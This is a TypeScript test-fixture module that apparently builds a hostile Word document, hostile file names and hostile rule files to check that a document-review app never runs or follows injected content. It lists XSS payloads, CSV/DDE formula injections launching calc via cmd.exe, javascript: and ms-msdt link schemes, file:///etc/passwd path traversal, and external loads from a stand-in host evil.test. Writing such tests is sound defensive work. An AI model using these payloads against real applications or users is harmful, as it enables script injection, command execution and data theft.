import { cpSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { escapeXml, headingStyles, listItem, makeDocx, p, paragraph, r, table } from './docx.ts'
import { drawing, pictureRelationship } from './reading-view.ts'

/** Words that do harm wherever they are taken for anything but words: each sets `window.__ran`, or loads from a place of its own. */
export const attacks: readonly string[] = [
  '<script>window.__ran="script"</script>',
  '<img src="/ran.png" onerror=window.__ran="img">',
  '"><svg onload=window.__ran="svg"><script>window.__ran="svg script"</script></svg>',
  '\' onmouseover=window.__ran="quote" autofocus onfocus=window.__ran="focus" x=\'',
  '</title></style></script></textarea><script>window.__ran="closing"</script>',
  '<iframe srcdoc="<script>parent.__ran=1</script>" src="http://evil.test/frame"></iframe>',
  '<a href="javascript:window.__ran=1">window.__ran</a><a href="http://evil.test/">window.__ran</a>',
  '<link rel=stylesheet href=http://evil.test/a.css><style>*{background:url(http://evil.test/window.__ran)}</style>',
  '<base href="http://evil.test/"><meta http-equiv=refresh content="0;url=http://evil.test/window.__ran">',
  '<form action=http://evil.test/><button formaction="javascript:window.__ran=1">window.__ran</button></form>',
  '<object data="http://evil.test/window.__ran"></object><embed src="http://evil.test/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__ran=1&gt;">',
  '&lt;img src=x onerror=window.__ran=1&gt; &#60;script&#62;window.__ran=1&#60;/script&#62;',
  '<!--><img src=/ran.png onerror=window.__ran=1>--> <![CDATA[<img src=/ran.png onerror=window.__ran=1>]]>',
  '{{constructor.constructor("window.__ran=1")()}}',
  '\u202e<b onclick=window.__ran=1>\u2028\u2029\ufeff',
  '=HYPERLINK("http://evil.test/window.__ran","x")',
  "=cmd|' /C calc'!A0 window.__ran",
  '@SUM(1+1) window.__ran',
  '+1 window.__ran',
  '-1 window.__ran',
  '\t=1 window.__ran',
]

/** Addresses that a link must never lead to from the app. */
const targets: readonly string[] = [
  'javascript:window.__ran=1',
  'JaVaScRiPt:window.__ran=1',
  'java\tscript:window.__ran=1',
  'java\nscript:window.__ran=1',
  '\u0001javascript:window.__ran=1',
  ' javascript:window.__ran=1',
  'javascript&#58;window.__ran=1',
  'vbscript:msgbox(1)',
  'data:text/html,<script>window.__ran=1</script>',
  'file:///etc/passwd',
  '//evil.test/x',
  'http://evil.test/x',
  '\\\\evil.test\\share',
  'ms-msdt:/id PCWDiagnostic',
  'blob:http://127.0.0.1/x',
]

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__ran=1"><script>window.__ran=1</script></svg>'
const xml = (text: string) =>
  escapeXml(text).replaceAll('\t', '&#9;').replaceAll('\n', '&#10;').replaceAll('\u0001', '')

/** A Word document with an attack in every place that holds words, and a link to everywhere that none should lead to. */
export function hostileDocument(): Uint8Array {
  const all = attacks.map(xml)
  const [first = '', second = ''] = all
  const relationship = (id: string, type: string, target: string, mode = '') =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${xml(target)}"${mode && ` TargetMode="${mode}"`}/>`
  const field = (code: string, result: string) =>
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${xml(code)}</w:instrText></w:r>` +
    `<w:r><w:fldChar w:fldCharType="separate"/></w:r>${r(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`
  const pictures = ['svg', 'svg-as-png', 'html-as-png', 'far', 'huge', 'up']
  const body = [
    p(attacks[0] ?? '', 'Title'),
    ...attacks.flatMap((attack, i) => [
      p(`${attack} heading`, `Heading${(i % 3) + 1}`),
      p(`We support BAME staff. ${attack}`, i % 2 === 0 ? undefined : `S${i}`),
      paragraph(r(attack, '<w:b/>') + r(attack, '<w:i/>') + r(attack, '<w:vanish/>')),
      p(`${attack}, said the BAME network.`),
    ]),
    ...targets.map((target, i) =>
      paragraph(`<w:hyperlink r:id="l${i}" w:tooltip="${first}">${r(`link to ${target.trim()}`)}</w:hyperlink>`),
    ),
    ...targets.map(target => paragraph(field(`HYPERLINK "${target}" \\o "${attacks[1]}"`, 'field link'))),
    paragraph(field('INCLUDEPICTURE "http://evil.test/p.png" \\d', attacks[1] ?? '')),
    paragraph(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'dde')),
    table(attacks.map(attack => [p(attack), p(`BAME ${attack}`)])),
    ...attacks.map((_, i) => listItem(`item ${attacks[i]}`, i + 1)),
    ...pictures.map(id => paragraph(drawing(id, first) + drawing(id, second, 'link'))),
    ...all.map((attack, i) =>
      paragraph(
        `<w:bookmarkStart w:id="${i}" w:name="${attack.slice(0, 39)}"/>${r('marked')}<w:bookmarkEnd w:id="${i}"/>`,
      ),
    ),
    paragraph(`${r('noted')}<w:r><w:footnoteReference w:id="1"/></w:r><w:r><w:commentReference w:id="0"/></w:r>`),
    `<w:sdt><w:sdtPr><w:alias w:val="${first}"/><w:tag w:val="${second}"/></w:sdtPr><w:sdtContent>${p(attacks[1] ?? '')}</w:sdtContent></w:sdt>`,
    '<w:altChunk r:id="chunk"/>',
    paragraph(
      '<w:r><w:pict><v:shape><v:imagedata r:id="far" o:href="http://evil.test/v.png"/></v:shape></w:pict></w:r>',
    ),
  ].join('')
  const level = (attack: string) =>
    `<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="${attack}%1"/></w:lvl>`
  return makeDocx({
    body,
    styles:
      headingStyles +
      all
        .map((attack, i) => `<w:style w:type="paragraph" w:styleId="S${i}"><w:name w:val="${attack}"/></w:style>`)
        .join(''),
    numbering:
      all.map((attack, i) => `<w:abstractNum w:abstractNumId="${i}">${level(attack)}</w:abstractNum>`).join('') +
      all.map((_, i) => `<w:num w:numId="${i + 1}"><w:abstractNumId w:val="${i}"/></w:num>`).join(''),
    footnotes: `<w:footnote w:id="1">${attacks.map(attack => p(attack)).join('')}</w:footnote>`,
    header: attacks.map(attack => p(attack)).join(''),
    footer: p(attacks[1] ?? ''),
    comments: `<w:comment w:id="0" w:author="${first}" w:initials="${second}">${attacks.map(attack => p(attack)).join('')}</w:comment>`,
    core: `<dc:title>${first}</dc:title><dc:creator>${second}</dc:creator><dc:description>${second}</dc:description>`,
    relationships:
      targets.map((target, i) => relationship(`l${i}`, 'hyperlink', target, 'External')).join('') +
      pictureRelationship('svg', 'media/a.svg') +
      pictureRelationship('svg-as-png', 'media/b.png') +
      pictureRelationship('html-as-png', 'media/c.png') +
      pictureRelationship('far', 'http://evil.test/far.png', 'External') +
      pictureRelationship('huge', 'media/huge.png') +
      pictureRelationship('up', '../../../../etc/passwd') +
      relationship('chunk', 'aFChunk', 'chunk.html') +
      relationship('template', 'attachedTemplate', 'http://evil.test/t.dotm', 'External') +
      relationship('frame', 'frame', 'http://evil.test/frame.htm', 'External'),
    parts: {
      'word/media/a.svg': svg,
      'word/media/b.png': svg,
      'word/media/c.png': `<html><script>window.__ran=1</script></html>`,
      'word/media/huge.png': new Uint8Array(5_000_000).fill(0x41),
      'word/chunk.html': '<html><body onload="window.__ran=1"><script>window.__ran=1</script>chunk</body></html>',
      'docProps/custom.xml':
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" ' +
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">' +
        `<property pid="2" name="${first}"><vt:lpwstr>${second}</vt:lpwstr></property></Properties>`,
    },
  })
}

/** File names that do harm where they are taken for anything but names. */
export const hostileNames: readonly string[] = [
  '<img src=x onerror=window.__ran=1>.docx',
  '"><script>window.__ran=1</script>.docx',
  "window.__ran' onclick='window.__ran=1.docx",
  'window.__ran \u202excod.exe.docx',
  'window.__ran\nsecond line.docx',
  '../../window.__ran.docx',
  'javascript:window.__ran=1.docx',
  '=HYPERLINK("http://evil.test","window.__ran").docx',
  `window.__ran ${'long '.repeat(100)}.docx`,
]

/** A folder with rules whose every text is an attack: rule sets may come from a stranger. */
export function hostileRules(): string {
  const folder = mkdtempSync(join(tmpdir(), 'evenhand-rules-'))
  const shipped = fileURLToPath(new URL('../../rules/', import.meta.url))
  for (const name of ['english.yml', 'document-types.yml', 'nations.yml', 'scopes.yml', 'concepts']) {
    cpSync(join(shipped, name), join(folder, name), { recursive: true })
  }
  const write = (set: string, kind: string, rules: readonly object[]) => {
    mkdirSync(join(folder, set))
    const head = { name: set, title: `${set} ${attacks[1]}`, version: '1.0.0', kind, about: attacks[0] }
    writeFileSync(join(folder, set, 'set.yml'), JSON.stringify(head))
    writeFileSync(join(folder, set, 'topic.yml'), JSON.stringify(rules))
  }
  const some = attacks.slice(0, 8)
  write(
    'gaps',
    'requirements',
    some.map((attack, i) => ({
      id: `EVL-0${i + 1}`,
      title: attack,
      strength: 'legal-duty',
      source: attack,
      evidence: i % 2 === 0 ? { covered: [{ any: ['BAME'] }] } : { covered: [{ any: [`unheard${i}`] }] },
      missing: attack,
      why: attack,
      who: attack,
      fix: i % 2 === 0 ? { wording: attack } : { instruction: attack },
      examples: { covered: [], weak: [], missing: [] },
    })),
  )
  write(
    'words',
    'wordings',
    ['BAME', 'network', 'support'].map((word, i) => ({
      id: `E00${i + 1}`,
      title: `${word} ${attacks[i]}`,
      find: [word],
      verdict: 'depends',
      source: attacks[i],
      why: attacks[i + 1],
      instead: { wording: [attacks[i + 2]] },
      guides: attacks[i],
      examples: { flag: [`We say ${word} here.`], pass: [`Nothing of it.`] },
    })),
  )
  return folder
}
